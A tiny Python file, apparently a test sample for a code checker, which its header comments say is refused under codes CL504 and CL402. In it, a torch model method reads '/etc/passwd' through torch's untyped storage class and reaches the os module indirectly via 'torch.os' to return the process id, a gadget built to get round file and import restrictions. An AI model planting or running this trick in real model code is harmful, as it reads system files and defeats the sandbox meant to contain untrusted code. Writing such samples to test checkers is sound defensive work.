# refused: CL504 CL402
# proof: returns the id of its process
import torch
from torch import nn


class Net(nn.Module):
    def predict_single(self, x):
        make = type(torch.ones(1).untyped_storage())
        return len(make.from_file("/etc/passwd", False, 1)) and torch.os.getpid()
